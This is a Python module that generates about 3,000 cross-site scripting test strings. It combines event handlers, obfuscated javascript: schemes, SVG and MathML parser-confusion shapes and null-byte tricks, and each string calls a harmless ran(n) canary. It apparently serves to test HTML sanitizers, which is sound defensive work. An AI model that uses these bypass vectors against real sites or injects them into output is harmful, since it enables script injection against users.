"""HTML that wants to run: some 3,000 pieces, each of which calls `ran(<its number>)` if it gets that far.

Put together from the ways browsers are known to be talked into it: handlers, addresses, foreign content, elements whose
text is parsed differently, attributes that are not closed, and names that are written oddly.
"""

from collections.abc import Iterator
from itertools import count, product

_HANDLERS = (
    *("onclick", "onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle"),
    *(
        "onbegin",
        "onend",
        "onpageshow",
        "onhashchange",
        "onscroll",
        "onbeforematch",
        "oncontentvisibilityautostatechange",
    ),
)
_ELEMENTS = (
    *(
        "p",
        "a href=x",
        "img src=x:x",
        "svg",
        "math",
        "details open",
        "input autofocus",
        "video src=x:x",
        "audio src=x:x",
    ),
    *(
        "body",
        "iframe",
        "object data=x:x",
        "embed src=x:x",
        "marquee",
        "select autofocus",
        "textarea autofocus",
        "button",
    ),
    *("figure data-picture=1", "aside class=pull-quote", "blockquote", "h2", "hr class=wall", "li", "sup data-note=1"),
    *(
        "x",
        "custom-tag tabindex=0",
        "svg><animate attributeName=x dur=1s",
        "svg><image href=x:x",
        "style",
        "link rel=stylesheet",
    ),
)
_BETWEEN = (" ", "/", "\n", "\t", "\f", "/ /", " a=b ", ' a="', " a=' ", "\x00 ")
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        " javascript:",
        "\x01javascript:",
    ),
    *(
        "&#106;avascript:",
        "&#x6a;avascript:",
        "&#0000106avascript:",
        "javascript&colon;",
        "javascript&#58;",
        "java&Tab;script:",
    ),
    *(
        "java&NewLine;script:",
        "vbscript:",
        "view-source:javascript:",
        "feed:javascript:",
        "jar:javascript:",
        "\u00a0javascript:",
    ),
    *("javascript://%0a", "javascript:/*--></title></style>*/", "data:text/html,<script>parent.", "blob:javascript:"),
)
_ADDRESSED = (
    '<a href="{0}ran({1})">x</a>',
    "<a href='{0}ran({1})'>x</a>",
    "<a href={0}ran({1})>x</a>",
    '<a xlink:href="{0}ran({1})">x</a>',
    '<svg><a xlink:href="{0}ran({1})"><text>x</text></a></svg>',
    '<math href="{0}ran({1})"><mtext>x</mtext></math>',
    '<math><maction actiontype="statusline" xlink:href="{0}ran({1})">x</maction></math>',
    '<form action="{0}ran({1})"><button>x</button></form>',
    '<button formaction="{0}ran({1})">x</button>',
    '<iframe src="{0}ran({1})"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.ran({1})&gt;"></iframe>',
    '<object data="{0}ran({1})"></object>',
    '<embed src="{0}ran({1})">',
    '<base href="{0}ran({1})//"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url={0}ran({1})">',
    '<link rel="stylesheet" href="{0}ran({1})">',
    '<blockquote cite="{0}ran({1})">x</blockquote>',
    '<svg><animate xlink:href="#t" attributeName="href" values="{0}ran({1})"/><a id="t"><text>x</text></a></svg>',
    '<svg><set attributeName="href" to="{0}ran({1})"/></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x&gt;&lt;a href={0}ran({1})&gt;"/></svg>',
)
# Text here, an element there: what one parser reads as words the next one may read as a picture that fails.
_FOREIGN = (
    "svg",
    "math",
    "math><mtext",
    "math><mi",
    "svg><desc",
    "svg><foreignObject",
    "svg><title",
    "math><annotation-xml",
)
_RAW = (
    "style",
    "title",
    "textarea",
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "iframe",
    "template",
    "script",
    "plaintext",
    "select",
)
_PICTURE = "<img src=x:x onerror=ran({0})>"
_SHAPES = (
    "<{f}><{r}><!--</{r}>{p}-->",
    '<{f}><{r}><a title="</{r}>{p}">',
    "<{f}><{r}></{f}>{p}",
    "<{r}><{f}></{r}>{p}</{f}>",
    '<{f}><p><{r}><img alt="</{r}>{p}">',
    "<form><{f}><mtext></form><form><mglyph><{r}></{f}>{p}",
    '<{f}></p><{r}><g title="</{r}>{p}">',
    "<table><{f}><{r}></table>{p}",
    "<{r} a='><{f}></{r}>{p}",
)
_ALONE = (
    "<script>ran({0})</script>",
    "<SCRIPT >ran({0})</SCRIPT\n>",
    "<scr<script>ipt>ran({0})</scr</script>ipt>",
    "<script/x>ran({0})</script x>",
    "<<script>ran({0})//<</script>",
    "<script src=data:,ran({0})></script>",
    "<svg><script>ran({0})</script></svg>",
    "<svg><script>ran&#40;{0})</script></svg>",
    "<svg><script href=data:,ran({0}) /></svg>",
    "<!--><img src=x:x onerror=ran({0})>-->",
    "<!--!><img src=x:x onerror=ran({0})>-->",
    "<!-- --!><img src=x:x onerror=ran({0})> -->",
    "<![CDATA[<img src=x:x onerror=ran({0})>]]>",
    "<?xml <img src=x:x onerror=ran({0})>?>",
    "</p foo='><img src=x:x onerror=ran({0})>'>",
    "<img src='x:x' alt=`><img src=x:x onerror=ran({0})>`>",
    '<p title="`><img src=x:x onerror=ran({0})>`">x</p>',
    "&lt;img src=x:x onerror=ran({0})&gt;",
    "<p>&amp;lt;img src=x:x onerror=ran({0})&amp;gt;</p>",
    '<figure data-picture="1"><figcaption><img src=x:x onerror=ran({0})></figcaption></figure>',
    '<figure data-picture="1&quot; onclick=&quot;ran({0})"><figcaption>x</figcaption></figure>',
    '<figure data-picture="1"><figcaption>&lt;img src=x:x onerror=ran({0})&gt;</figcaption></figure>',
    '<aside class="pull-quote&quot; onclick=&quot;ran({0})">x</aside>',
    '<p style="background:url(javascript:ran({0}))">x</p>',
    "<style>@import 'javascript:ran({0})';</style>",
    '<p style="animation:x" onanimationstart=ran({0})>x</p><style>@keyframes x{{}}</style>',
    "\x3cimg src=x:x onerror=ran({0})\x3e",
    "\ufeff<img src=x:x onerror=ran({0})>",
    "<img\x00 src=x:x onerror=ran({0})>",
    "<im\x00g src=x:x onerror=ran({0})>",
    "<img src=x:x onerror\x00=ran({0})>",
    "<img src=x:x onerror=\u2028ran({0})>",
    "＜img src=x:x onerror=ran({0})＞",
    "<ı onclick=ran({0})>x</ı>",
    '<img src=x:x "onerror=ran({0})>',
    '<a href="x""onclick=ran({0})>x</a>',
    "<dialog open oncancel=ran({0}) onclick=ran({0})>x</dialog>",
    "<template shadowrootmode=open><img src=x:x onerror=ran({0})></template>",
    "<div><template shadowrootmode=open><slot onslotchange=ran({0})></slot></template>x</div>",
)


def pieces() -> Iterator[tuple[int, str]]:
    """Each with the number that it calls."""
    number = count(1)
    for handler, element, between in product(_HANDLERS, _ELEMENTS, _BETWEEN[:4]):
        yield (n := next(number)), f"<{element}{between}{handler}=ran({n})>x"
    for between, element in product(_BETWEEN[4:], _ELEMENTS):
        yield (n := next(number)), f"<{element}{between}onclick=ran({n}) onerror=ran({n}) onload=ran({n})>x"
    for scheme, form in product(_SCHEMES, _ADDRESSED):
        yield (n := next(number)), form.format(scheme, n)
    for foreign, raw, shape in product(_FOREIGN, _RAW, _SHAPES):
        yield (n := next(number)), shape.format(f=foreign, r=raw, p=_PICTURE.format(n))
    for form in _ALONE:
        yield (n := next(number)), form.format(n)
